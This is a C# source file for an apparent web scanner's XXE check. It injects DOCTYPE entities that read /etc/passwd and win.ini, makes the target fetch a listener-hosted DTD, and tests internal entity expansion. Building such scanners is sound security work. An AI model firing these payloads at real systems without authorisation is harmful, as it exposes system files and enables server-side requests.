using System.Text.RegularExpressions;
using Harrier.Engine.Checks.Active.PathTraversal;
using Harrier.Engine.Checks.Active.Shared;
using Harrier.Engine.Http;
using Harrier.Engine.InsertionPoints;
using Harrier.Engine.OutOfBand;

namespace Harrier.Engine.Checks.Active.Xxe;

/// <summary>
/// XML external entities, in XML bodies (element text) and in parameters whose value is an XML document. The
/// document gets a DOCTYPE declaring an entity that the attacked element references:
/// <list type="number">
/// <item>in-band: <c>SYSTEM "file:///etc/passwd"</c> or win.ini; the file's structure in the response (not in the
/// baseline) is an <c>Xxe</c>;</item>
/// <item>out-of-band: a general entity and an external parameter-entity DTD pointing at the listener; a callback is an
/// <c>OutOfBandXxe</c>;</item>
/// <item>an internal entity pair whose concatenated expansion appears (the DTD alone never shows it joined):
/// entities are expanded but nothing external was seen, <c>PossibleXxe</c>.</item>
/// </list>
/// </summary>
internal sealed class XxeCheck : IOutOfBandCheck
{
    public CheckMetadata Metadata => XxeDefinition.Metadata;

    public async Task RunAsync(ActiveCheckContext context, CancellationToken cancellationToken)
    {
        ArgumentNullException.ThrowIfNull(context);
        var point = context.InsertionPoint;
        if (!CarriesXml(point))
        {
            return;
        }

        var baseline = (await context.GetBaselineAsync(cancellationToken).ConfigureAwait(false))?.BodyText ?? "";
        foreach (var (file, signature) in new (string, Regex)[] { ("file:///etc/passwd", PathTraversalCheck.Passwd()), ("file:///c:/windows/win.ini", PathTraversalCheck.WinIni()) })
        {
            if (signature.IsMatch(baseline) || Build(point, "<!ENTITY hrrx SYSTEM \"" + file + "\">", "&hrrx;") is not { } attack)
            {
                continue;
            }

            var response = await SendAsync(context, attack, cancellationToken).ConfigureAwait(false);
            if (response is not null && signature.Match(response.BodyText) is { Success: true } match)
            {
                await ReportAsync(context, Metadata.Type("Xxe"), attack, context.CreateEvidence(response, match.Value), cancellationToken).ConfigureAwait(false);
                return;
            }
        }

        var sent = new List<(OutOfBandToken Token, string Payload, ScanHttpResponse Response)>();
        if (context.OutOfBand is { } listener)
        {
            var entity = listener.NewToken();
            var dtd = listener.NewToken("<!ENTITY hrrd \"harrier\">", "application/xml-dtd");
            foreach (var (token, attack) in new[]
            {
                (entity, Build(point, "<!ENTITY hrrx SYSTEM \"" + entity.Url.AbsoluteUri + "\">", "&hrrx;")),
                (dtd, Build(point, "<!ENTITY % hrrp SYSTEM \"" + dtd.Url.AbsoluteUri + "\"> %hrrp;", null)),
            })
            {
                if (attack is not null && await SendAsync(context, attack, cancellationToken).ConfigureAwait(false) is { } response)
                {
                    sent.Add((token, attack, response));
                }
            }
        }

        var marker = ActiveCheckContext.NewToken();
        var expanded = Build(point, "<!ENTITY hrra \"" + marker[..6] + "\"><!ENTITY hrrb \"" + marker[6..] + "\">", "&hrra;&hrrb;") is { } internalAttack
            && !baseline.Contains(marker, StringComparison.Ordinal)
            && await SendAsync(context, internalAttack, cancellationToken).ConfigureAwait(false) is { } internalResponse
            && internalResponse.BodyText.Contains(marker, StringComparison.Ordinal)
                ? (internalAttack, internalResponse)
                : default;

        if (context.OutOfBand is { } oob
            && await oob.WaitForAnyAsync(sent.Select(s => s.Token), oob.CallbackWait, cancellationToken).ConfigureAwait(false) is { } callback)
        {
            var (_, payload, response) = sent.First(s => s.Token.Token == callback.Token);
            await ReportAsync(context, Metadata.Type("OutOfBandXxe"), payload, OutOfBandProbe.Evidence(context, response, callback), cancellationToken).ConfigureAwait(false);
            return;
        }

        if (expanded.internalResponse is not null)
        {
            await ReportAsync(context, Metadata.Type("PossibleXxe"), expanded.internalAttack, context.CreateEvidence(expanded.internalResponse, marker), cancellationToken).ConfigureAwait(false);
        }
    }

    /// <summary>Element text of an XML body, or any parameter whose value is itself an XML document.</summary>
    private static bool CarriesXml(InsertionPoint point) =>
        point.Kind == InsertionPointKind.Xml
            ? !point.Name.Contains('@', StringComparison.Ordinal) // External entities are not allowed in attribute values.
            : point.Kind is not (InsertionPointKind.Header or InsertionPointKind.Cookie or InsertionPointKind.Path)
                && point.OriginalValue.TrimStart().StartsWith('<') && XmlBodyInsertionPoints.Parse(point.OriginalValue) is not null;

    /// <summary>
    /// The attacked value: for an XML body, the whole body (sent through <see cref="ActiveCheckContext.SendValueAsync"/>
    /// with the body point replaced); for a parameter, the XML document it carries. The DOCTYPE declares
    /// <paramref name="declarations"/> and the attacked element's text becomes <paramref name="reference"/>
    /// (left unchanged when null).
    /// </summary>
    private static string? Build(InsertionPoint point, string declarations, string? reference)
    {
        var placeholder = ActiveCheckContext.NewToken();
        var document = point.Kind == InsertionPointKind.Xml ? point.WithValue(placeholder).Body : WithFirstElementValue(point.OriginalValue, placeholder);
        if (document is null || XmlBodyInsertionPoints.Parse(document) is not { Root: { } root })
        {
            return null;
        }

        var content = root.ToString(System.Xml.Linq.SaveOptions.DisableFormatting);
        if (reference is not null)
        {
            content = content.Replace(placeholder, reference, StringComparison.Ordinal);
        }

        return "<?xml version=\"1.0\"?><!DOCTYPE " + root.Name.LocalName + " [" + declarations + "]>" + content;
    }

    /// <summary>An XML body is replaced whole; a parameter gets the document as its value.</summary>
    private static Task<ScanHttpResponse?> SendAsync(ActiveCheckContext context, string attack, CancellationToken cancellationToken) =>
        context.InsertionPoint.Kind == InsertionPointKind.Xml
            ? context.SendAsync(context.Request with { Body = attack }, cancellationToken)
            : context.SendValueAsync(attack, cancellationToken);

    private static string? WithFirstElementValue(string xml, string value)
    {
        var request = new ScanHttpRequest("POST", new Uri("http://127.0.0.1/")) { Body = xml, ContentType = "application/xml" };
        return XmlBodyInsertionPoints.Enumerate(request).FirstOrDefault(p => !p.Name.Contains('@', StringComparison.Ordinal))?.WithValue(value).Body;
    }

    private async Task ReportAsync(ActiveCheckContext context, FindingType type, string payload, Core.Findings.Evidence evidence, CancellationToken cancellationToken)
    {
        var finding = FindingFactory.Create(Metadata, type, context.Request, context.InsertionPoint, payload, evidence);
        await context.ReportAsync(finding, cancellationToken).ConfigureAwait(false);
    }
}
